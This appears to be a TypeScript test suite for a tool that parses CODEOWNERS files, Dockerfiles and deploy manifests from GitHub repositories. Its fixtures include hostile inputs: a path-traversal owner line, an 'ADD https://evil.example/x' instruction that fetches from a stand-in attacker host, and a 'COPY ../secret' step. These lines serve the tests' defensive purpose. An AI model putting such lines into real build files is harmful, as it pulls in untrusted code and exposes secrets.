import { afterEach, describe, expect, it } from "vitest";
import { chain } from "#sim/github/commit.ts";
import { createGitHubClient } from "#clients/github/client.ts";
import { createLayoutReader } from "#watchers/github/layout.ts";
import { findCopies, findImages, isBuildFile, isDeployFile } from "#watchers/github/build-files.ts";
import { parseCodeowners } from "#watchers/github/codeowners.ts";
import { silentLog } from "#lib/log.ts";
import { startLocalGitHub } from "#sim/github/server.ts";
import { aCommit, aFile, aRepository } from "#test/github/builders.ts";

let stack = new AsyncDisposableStack();
afterEach(async () => {
  await stack.disposeAsync();
  stack = new AsyncDisposableStack();
});

const owners = `# who owns what
*            @acme/all
/services/   @acme/platform
/services/cart/ @acme/cart @ada   # the cart
services/web/** @acme/web
docs/        @acme/docs
*.js         @acme/js
/libs/prices
!/libs/other @acme/x
/sr[c]/      @acme/x
/services/cart/legacy @acme/legacy`;

describe("CODEOWNERS", () => {
  it("gives directories to who owns them by the last line that matches", () => {
    expect(parseCodeowners(owners)).toEqual([
      { path: "services/", owners: ["@acme/platform"] },
      { path: "services/cart/", owners: ["@acme/cart", "@ada"] },
      { path: "services/cart/legacy/", owners: ["@acme/legacy"] },
      { path: "services/web/", owners: ["@acme/web"] },
    ]);
  });

  it("a later wide line takes all that stands before it", () => {
    expect(parseCodeowners("/services/cart/ @acme/cart\n/services/ @acme/platform")).toEqual([
      { path: "services/", owners: ["@acme/platform"] },
      { path: "services/cart/", owners: ["@acme/platform"] },
    ]);
  });

  it.each(["", "\0\0", "../../etc/ @a", "/ @a", "** @a", "a".repeat(500_000), "/a/ @b\n".repeat(50_000), "/(((((/ @a", "\\ @a"])(
    "takes hostile text calmly",
    (text) => {
      expect(parseCodeowners(text).length).toBeLessThanOrEqual(1);
    },
  );
});

describe("files that build and deploy", () => {
  it("are told by their names", () => {
    expect(
      ["a/Dockerfile", "Dockerfile.web", "docker/web.Dockerfile", "a/Containerfile", "Dockerfile-web"].every(isBuildFile),
    ).toBe(true);
    expect(["a/Dockerfile.dockerignore", "src/dockerfile.ts.md/x", "a/notDockerfile"].some(isBuildFile)).toBe(false);
    expect(["charts/web/Chart.yaml", "x/kustomization.yaml", "deploy/web.yml", "a/values-prod.yaml"].every(isDeployFile)).toBe(
      true,
    );
    expect(["src/config.yaml", "deploy/readme.md"].some(isDeployFile)).toBe(false);
  });

  it("name what they copy, in their own repository only", () => {
    const text = `FROM node
COPY --from=build /out /app
COPY --chown=1:1 services/web libs/prices/ /app/
COPY ["go/web/", "/x"]
ADD https://evil.example/x /x
COPY . .
COPY ../secret /x
COPY $DIR /x
COPY package.json ./
COPY a/b \\
  /c`;
    expect(findCopies(text)).toEqual(["services/web/", "libs/prices/", "go/web/", "a/b/"]);
  });

  it("name images", () => {
    const text = `images:\n  - name: shop/web\n    newName: registry.example/shop/web\nimage: "registry.example:5000/shop/cart:7" # x\nname: web\nrepository: {{ .Values.x }}`;
    expect(findImages(text)).toEqual(["shop/web", "registry.example/shop/web", "registry.example:5000/shop/cart:7"]);
  });
});

async function open(contents: Record<string, string>, paths: readonly string[] = []) {
  const commits = chain(undefined, [aCommit({ files: paths.map((path) => aFile({ path, status: "added" })) })]);
  const github = stack.use(await startLocalGitHub({ token: "secret", repositories: [aRepository({ contents, commits })] }));
  const asked: string[] = [];
  const real = createGitHubClient({ apiUrl: github.url, token: "secret", log: silentLog });
  const client: typeof real = { get: (repository, path, query) => (asked.push(path), real.get(repository, path, query)) };
  return { read: createLayoutReader(client), asked };
}

describe("a repository's layout, over the API", () => {
  it("holds what builds and deploys the workload, read, and who owns what", async () => {
    const { read, asked } = await open(
      {
        ".github/CODEOWNERS": owners,
        "docker/web.Dockerfile": "COPY services/web /app",
        "docker/cart.Dockerfile": "COPY services/cart /app",
        "deploy/web/kustomization.yaml": "images:\n- name: shop/web",
      },
      ["services/web/src/index.ts"],
    );
    const layout = await read("acme/monorepo", "main", ["web"]);

    expect(layout?.builds).toEqual([
      { file: "docker/web.Dockerfile", copies: ["services/web/"] },
      { file: "docker/cart.Dockerfile", copies: [] },
    ]);
    expect(layout?.deploys).toEqual([{ file: "deploy/web/kustomization.yaml", images: ["shop/web"] }]);
    expect(layout?.owned.map(({ path }) => path)).toContain("services/cart/");
    expect(layout?.directories).toContain("services/web/src/");
    expect(asked).toHaveLength(4);
  });

  it("reads no file twice, whatever head it is asked for", async () => {
    const { read, asked } = await open({ ".github/CODEOWNERS": owners, "web/Dockerfile": "COPY web /app" });
    await read("acme/monorepo", "main", ["web"]);
    await read("acme/monorepo", "main", ["web"]);
    expect(asked.filter((path) => path.startsWith("/contents"))).toHaveLength(2);
  });

  it("reads few files of many", async () => {
    const many = Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`s${index}/Dockerfile`, "FROM x"]));
    const { read, asked } = await open(many);
    expect((await read("acme/monorepo", "main", ["nobody"]))?.builds).toHaveLength(200);
    expect(asked.length).toBeLessThanOrEqual(22);
  });

  it("is undefined where GitHub does not know the place", async () => {
    const { read } = await open({});
    expect(await read("acme/monorepo", "no-such-branch", ["web"])).toBeUndefined();
    expect(await read("acme/none", "main", ["web"])).toBeUndefined();
  });
});
